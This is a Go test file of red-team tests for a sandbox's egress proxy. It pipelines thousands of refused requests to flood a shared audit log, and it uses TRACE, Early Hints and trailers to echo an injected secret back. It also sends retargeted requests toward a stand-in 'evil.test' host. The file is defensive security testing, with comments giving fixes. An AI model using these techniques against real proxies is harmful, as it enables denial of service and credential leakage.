package egress

// Red-team tests of the egress proxy (SPEC §17). A TestRedTeam… test that
// fails demonstrates a weakness of the current code (its comment says
// which); one that passes is an attack that is held, kept as a regression
// test where no other test covers it.

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptrace"
	"net/textproto"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/sandbox-mcp/sandbox-mcp/audit"
	"github.com/sandbox-mcp/sandbox-mcp/internal/testkit"
)

// countSink counts the audit lines recorded and the bytes they take.
type countSink struct {
	lines, bytes atomic.Int64
}

func (s *countSink) Begin(e audit.Event) (audit.Event, error) { return e, nil }
func (s *countSink) Record(e audit.Event) error {
	var b bytes.Buffer
	w := audit.NewWriter(&b)
	w.Record(e)
	s.lines.Add(1)
	s.bytes.Add(int64(b.Len()))
	return nil
}
func (s *countSink) Close() error { return nil }

// TestRedTeamAuditFlood: code in the sandbox writes the server's audit log
// as fast as it can send bytes, without any tool call. A refused plain
// request is answered 403 and the connection is kept alive, so one
// connection can pipeline thousands of refused requests, each one an audit
// line (~400 bytes) — nothing bounds the rate or the total. The audit log
// is the server's, shared by every tenant: a sandbox fills the disk
// (hundreds of MB a minute from one process), after which audit.Begin
// fails and every tenant's proxied connections (and calls) are refused.
//
// FAILS on the current code. Fix: in session.deny/attempt.end
// (egress/auditline.go) rate-limit each thread's lines (a token bucket,
// then one "N more refused lines suppressed" summary line per interval),
// and close the connection after a refusal (deny with closeConn true on
// the plain path too) so each refused attempt costs a new connection.
func TestRedTeamAuditFlood(t *testing.T) {
	t.Parallel()
	sink := &countSink{}
	p, err := New(Config{Mode: ModeAllowlist, Allow: []string{"example.com"}},
		Options{StateDir: t.TempDir(), Audit: sink, lookup: noNames})
	if err != nil {
		t.Fatal(err)
	}
	addr := start(t, p, Who{Thread: "flood"})
	c, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	const n = 5000
	var req bytes.Buffer
	for i := range n {
		fmt.Fprintf(&req, "GET http://refused-%d.test/ HTTP/1.1\r\nHost: refused-%d.test\r\n\r\n", i, i)
	}
	start := time.Now()
	go c.Write(req.Bytes())
	c.SetReadDeadline(time.Now().Add(30 * time.Second))
	br := bufio.NewReader(c)
	answered := 0
	for answered < n {
		resp, err := http.ReadResponse(br, nil)
		if err != nil {
			break
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		answered++
	}
	took := time.Since(start)
	lines, size := sink.lines.Load(), sink.bytes.Load()
	t.Logf("one connection, %v: %d refused requests answered, %d audit lines, %d bytes (%.0f MB/min)",
		took.Round(time.Millisecond), answered, lines, size, float64(size)/took.Minutes()/1e6)
	// One connection's refusals should cost a bounded number of lines.
	if lines > 100 {
		t.Errorf("one connection wrote %d audit lines (%d bytes) in %v: a sandbox floods the shared audit log at will", lines, size, took.Round(time.Millisecond))
	}
}

// TestRedTeamSecretEchoedBack: the injected value comes back into the
// sandbox from the very host it is injected for, by ways hideSecrets
// (which looks only at the final response's headers) does not see. Each
// needs the upstream to echo: TRACE is HTTP's echo method (RFC 9110
// §9.3.8: the body is the request as received, injected header included)
// and some servers still answer it; a 103 Early Hints and trailers are
// forwarded by httputil.ReverseProxy without ModifyResponse.
//
// FAILS on the current code (all three subtests). Fix in egress/tunnel.go
// (mitm): refuse TRACE and TRACK inside a terminated tunnel (405, before
// the reverse proxy); set ReverseProxy's 1xx handling to scrub (wrap the
// ResponseWriter so that WriteHeader of a 1xx passes through hideSecrets'
// check, or drop 1xx headers that hold a secret); scrub resp.Trailer in
// hideSecrets (its values are filled after the body: wrap resp.Body so that
// at EOF the trailer values are checked). Consider also replacing the
// secret in bodies (a streaming replacer with len(secret)-1 bytes of
// overlap): an echo endpoint (httpbin-like /headers, an error page quoting
// the Authorization it refused) hands the sandbox the token otherwise.
func TestRedTeamSecretEchoedBack(t *testing.T) {
	t.Parallel()
	in := newInjecting(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case r.Method == "TRACE":
			// What Apache's TraceEnable On does: the request, echoed.
			w.Header().Set("Content-Type", "message/http")
			r.Write(w)
		case r.URL.Path == "/hints":
			w.Header().Set("Link", "</x>; rel=preload; token="+r.Header.Get("Authorization"))
			w.WriteHeader(http.StatusEarlyHints)
			w.Header().Del("Link")
			io.WriteString(w, "hello")
		case r.URL.Path == "/trailer":
			w.Header().Set("Trailer", "X-Seen")
			io.WriteString(w, "hello")
			w.Header().Set("X-Seen", r.Header.Get("Authorization"))
		default:
			io.WriteString(w, "hello")
		}
	}))
	tlsConf := &tls.Config{RootCAs: in.caPool, ServerName: "example.com"}

	t.Run("TRACE", func(t *testing.T) {
		tc := dialThrough(t, in.addr, "example.com:"+in.tlsUp.port(), tlsConf)
		fmt.Fprintf(tc, "TRACE / HTTP/1.1\r\nHost: example.com\r\n\r\n")
		resp, err := http.ReadResponse(bufio.NewReader(tc), nil)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		if strings.Contains(string(b), "s3cret") {
			t.Errorf("TRACE through the terminated tunnel: the injected secret reached the sandbox in the body:\n%s", b)
		}
	})

	t.Run("103 Early Hints", func(t *testing.T) {
		var hints []string
		ctx := httptrace.WithClientTrace(t.Context(), &httptrace.ClientTrace{
			Got1xxResponse: func(code int, h textproto.MIMEHeader) error {
				hints = append(hints, h["Link"]...)
				return nil
			},
		})
		req, _ := http.NewRequestWithContext(ctx, "GET", in.url("/hints"), nil)
		resp, err := proxyClient(in.addr, in.caPool).Do(req)
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		for _, h := range hints {
			if strings.Contains(h, "s3cret") {
				t.Errorf("a 103 Early Hints header carried the secret to the sandbox: %q", h)
			}
		}
	})

	t.Run("trailer", func(t *testing.T) {
		resp, err := proxyClient(in.addr, in.caPool).Get(in.url("/trailer"))
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if v := resp.Trailer.Get("X-Seen"); strings.Contains(v, "s3cret") {
			t.Errorf("a trailer carried the secret to the sandbox: %q", v)
		}
	})
}

// TestRedTeamPlainUpgradeIdle: a plain-HTTP request that the upstream
// upgrades (101: a websocket to a listed host) becomes a byte pipe that
// httputil.ReverseProxy copies with no idle limit: unlike a CONNECT
// tunnel (tunnelIdle) it stays open, idle, for the sandbox's whole life.
// Bounded by connsPerThread, so a slot leak, not unbounded memory.
//
// FAILS on the current code. Fix in session.forward (egress/session.go):
// watch the hijacked connection with watchIdle — countWriter.Hijack already
// returns a countConn: start watchIdle(cc, tunnelIdle, cc.Close) there.
func TestRedTeamPlainUpgradeIdle(t *testing.T) {
	t.Parallel()
	up := newUpstream(t, false, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c, _, err := http.NewResponseController(w).Hijack()
		if err != nil {
			return
		}
		defer c.Close()
		io.WriteString(c, "HTTP/1.1 101 Switching Protocols\r\nUpgrade: echo\r\nConnection: Upgrade\r\n\r\n")
		io.Copy(io.Discard, c) // holds, silent
	}))
	p, err := New(Config{Mode: ModeAllowlist, Allow: []string{"127.0.0.1:" + up.port()}},
		Options{limits: limits{tunnelIdle: 300 * time.Millisecond}})
	if err != nil {
		t.Fatal(err)
	}
	addr := start(t, p, Who{Thread: "t"})
	c, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	fmt.Fprintf(c, "GET http://127.0.0.1:%s/ws HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: echo\r\n\r\n", up.port())
	br := bufio.NewReader(c)
	c.SetReadDeadline(time.Now().Add(10 * time.Second))
	resp, err := http.ReadResponse(br, nil)
	if err != nil || resp.StatusCode != http.StatusSwitchingProtocols {
		t.Fatalf("upgrade: %v %v", resp, err)
	}
	c.SetReadDeadline(time.Now().Add(3 * time.Second))
	_, err = br.ReadByte()
	if ne, ok := err.(net.Error); ok && ne.Timeout() {
		t.Error("an upgraded plain-HTTP connection idle for 10× tunnelIdle is still open")
	}
}

// Held: inside a terminated tunnel to the inject host, nothing sends the
// secret anywhere else — not an absolute-form request naming another
// host, not a second request on the same kept-alive connection with
// another Host, not a pipelined pair. Every request reaches the inject
// host's server as that host, with the header. (TestInject covers a
// changed Host on one request; this adds absolute-form and pipelining on
// one connection.)
func TestRedTeamMitmNoRetarget(t *testing.T) {
	t.Parallel()
	other := newUpstream(t, true, nil) // "evil.test": must never be reached
	var seen atomic.Int64
	in := newInjecting(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		seen.Add(1)
		io.WriteString(w, "hello from upstream")
	}))
	tc := dialThrough(t, in.addr, "example.com:"+in.tlsUp.port(), &tls.Config{RootCAs: in.caPool, ServerName: "example.com"})
	reqs := fmt.Sprintf("GET https://127.0.0.1:%s/abs HTTP/1.1\r\nHost: 127.0.0.1:%s\r\n\r\n", other.port(), other.port()) +
		fmt.Sprintf("GET http://evil.test:%s/abs2 HTTP/1.1\r\nHost: evil.test\r\n\r\n", other.port()) +
		"GET /rel HTTP/1.1\r\nHost: evil.test\r\n\r\n" +
		"GET /last HTTP/1.1\r\nHost: example.com\r\nConnection: close\r\n\r\n"
	io.WriteString(tc, reqs)
	br := bufio.NewReader(tc)
	for i := range 4 {
		resp, err := http.ReadResponse(br, nil)
		if err != nil {
			t.Fatalf("response %d: %v", i, err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != 200 || string(b) != "hello from upstream" {
			t.Errorf("response %d: %d %q", i, resp.StatusCode, b)
		}
	}
	if len(other.requests()) != 0 {
		t.Errorf("a request inside the terminated tunnel reached another server: %v", other.requests()[0].URL)
	}
	if !testkit.Poll(5*time.Second, 10*time.Millisecond, func() bool { return seen.Load() == 4 }) {
		t.Fatalf("the inject host got %d requests, want 4", seen.Load())
	}
	for _, r := range in.tlsUp.requests() {
		if r.Header.Get("Authorization") != secret || r.Host != "example.com:"+in.tlsUp.port() {
			t.Errorf("request %s: Host %q Authorization %q", r.URL.Path, r.Host, r.Header.Get("Authorization"))
		}
	}
}

// Held: spellings of a host that name the inject host (case, trailing
// dot) get the header only over the terminated tunnel to that host;
// spellings that name another target (its IP, another port, userinfo in
// a plain URL) never carry it.
func TestRedTeamInjectHostSpellings(t *testing.T) {
	t.Parallel()
	in := newInjecting(t, nil)
	tp := in.tlsUp.port()
	// Case and a trailing dot: the same target, the header injected, the
	// certificate of the proxy's CA.
	for _, target := range []string{"EXAMPLE.com:" + tp, "example.com.:" + tp} {
		tc := dialThrough(t, in.addr, target, &tls.Config{RootCAs: in.caPool, ServerName: "example.com"})
		fmt.Fprintf(tc, "GET /spelled HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", target)
		resp, err := http.ReadResponse(bufio.NewReader(tc), nil)
		if err != nil {
			t.Fatalf("%s: %v", target, err)
		}
		resp.Body.Close()
		if got := in.tlsUp.last(t).Header.Get("Authorization"); got != secret {
			t.Errorf("%s: upstream got Authorization %q", target, got)
		}
	}
	// Its IP: a plain tunnel, the upstream's own certificate, no header.
	n := len(in.tlsUp.requests())
	c := proxyClient(in.addr, in.tlsUp.roots())
	resp, err := c.Get("https://127.0.0.1:" + tp + "/by-ip")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if rs := in.tlsUp.requests(); len(rs) != n+1 || rs[n].Header.Get("Authorization") != "" {
		t.Errorf("by IP: the upstream got Authorization %q", rs[len(rs)-1].Header.Get("Authorization"))
	}
	// Userinfo naming the inject host, plain HTTP: the target is the URL's
	// host, and no header is injected over plain HTTP anyway.
	pp := in.plainUp.port()
	cn, err := net.Dial("tcp", in.addr)
	if err != nil {
		t.Fatal(err)
	}
	defer cn.Close()
	fmt.Fprintf(cn, "GET http://example.com:%s@127.0.0.1:%s/userinfo HTTP/1.1\r\nHost: example.com:%s\r\nConnection: close\r\n\r\n", tp, pp, tp)
	out, _ := io.ReadAll(cn)
	if !bytes.HasPrefix(out, []byte("HTTP/1.1 403")) && !bytes.HasPrefix(out, []byte("HTTP/1.1 400")) {
		// 127.0.0.1:pp is listed; if it passed, it must carry no secret.
		if r := in.plainUp.last(t); r.Header.Get("Authorization") != "" && strings.Contains(r.Header.Get("Authorization"), "s3cret") {
			t.Errorf("userinfo: the plain upstream got the secret")
		}
	}
}
